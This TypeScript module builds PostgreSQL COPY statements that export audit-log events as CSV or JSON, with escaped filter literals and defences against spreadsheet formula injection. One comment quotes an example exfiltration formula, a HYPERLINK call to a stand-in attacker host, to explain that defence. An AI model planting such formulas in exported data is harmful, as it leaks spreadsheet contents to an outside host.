import { escapeLiteral } from "pg";
import { auditFilterConditions } from "@/lib/audit/log/events";
import type { AuditFilters } from "@/lib/audit/log/filters";

// The export as one COPY … TO STDOUT statement: PostgreSQL writes every byte of the file (CSV
// quoting, JSON escaping, dates) in C on its own core, and Node only passes the bytes on. On a
// million events that is several times faster than reading rows into Node and formatting them
// there, and Node's memory does not depend on the rows at all (scripts/bench/audit.ts).
// The description comes from the event's stored summary (written with it by describeEvent).
//
// COPY takes no bind parameters, so the filter values are written into the statement as
// literals, escaped by node-postgres's escapeLiteral (they were validated by filters.ts too).
// Events come in chain order, oldest first: unfiltered, each row's prev_hash is the hash of the
// row above it, so a reviewer can follow the chain in a spreadsheet.

export type ExportFormat = "csv" | "json";

export const CSV_COLUMNS = [
  "id",
  "at",
  "actor_type",
  "actor_id",
  "actor",
  "release_id",
  "release_title",
  "action",
  "description",
  "before",
  "after",
  "prev_hash",
  "hash",
];

const iso = `to_char(e.at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"')`;

function where(filters: AuditFilters): string {
  const conditions = auditFilterConditions(filters, escapeLiteral, "e.");
  if (filters.action) conditions.push(`e.action = ${escapeLiteral(filters.action)}`);
  return conditions.length ? `WHERE ${conditions.join(" AND ")}` : "";
}

const FROM = "FROM audit_events e LEFT JOIN releases r ON r.id = e.release_id";

// A spreadsheet runs a cell starting with = + - @ (or a tab or CR) as a formula, and anyone may
// write text that lands here (titles, names, reasons): =HYPERLINK("https://evil.example/?"&A1)
// would turn a reviewer's Excel against them. OWASP's remedy, a leading single quote, is added in
// the statement so the file still streams straight from COPY. Ids, times and hashes never start so.
const cell = (expr: string) => `CASE WHEN left(${expr}, 1) IN ('=', '+', '-', '@', E'\\t', E'\\r') THEN '''' || ${expr} ELSE ${expr} END`;

// The header row is these names, in this order.
const CSV_SELECT = `e.id, ${iso} AS at, e.actor_type, e.actor_id, ${cell("e.actor_label")} AS actor, e.release_id, ${cell("r.title")} AS release_title,
  ${cell("e.action")} AS action, ${cell("e.summary")} AS description, ${cell("e.before::text")} AS before, ${cell("e.after::text")} AS after, e.prev_hash, e.hash`;

// One JSON object per line; every line but the last ends with a comma, so that the route only
// wraps the lines in [ and ] to make one array. json_build_object escapes every control
// character, so no line holds a raw line break, and the CSV "format" below never quotes one.
const JSON_SELECT = `json_build_object(
    'id', e.id::text, 'at', ${iso}, 'actorType', e.actor_type, 'actorId', e.actor_id, 'actor', e.actor_label,
    'releaseId', e.release_id, 'releaseTitle', r.title, 'action', e.action, 'description', e.summary,
    'before', e.before, 'after', e.after, 'prevHash', e.prev_hash, 'hash', e.hash)::text
  || CASE WHEN lead(e.id) OVER (ORDER BY e.id) IS NULL THEN '' ELSE ',' END`;

export function auditExportCopySql(filters: AuditFilters, format: ExportFormat): string {
  const query = `SELECT ${format === "csv" ? CSV_SELECT : JSON_SELECT} ${FROM} ${where(filters)} ORDER BY e.id`;
  // CSV: RFC 4180 quoting with a header row. JSON: one text column written verbatim, which CSV
  // mode does when the value holds neither the delimiter nor the quote character (two control
  // characters JSON text never contains unescaped) nor a line break.
  const options = format === "csv" ? "FORMAT csv, HEADER" : `FORMAT csv, DELIMITER E'\\x1f', QUOTE E'\\x1e'`;
  return `COPY (${query}) TO STDOUT WITH (${options})`;
}
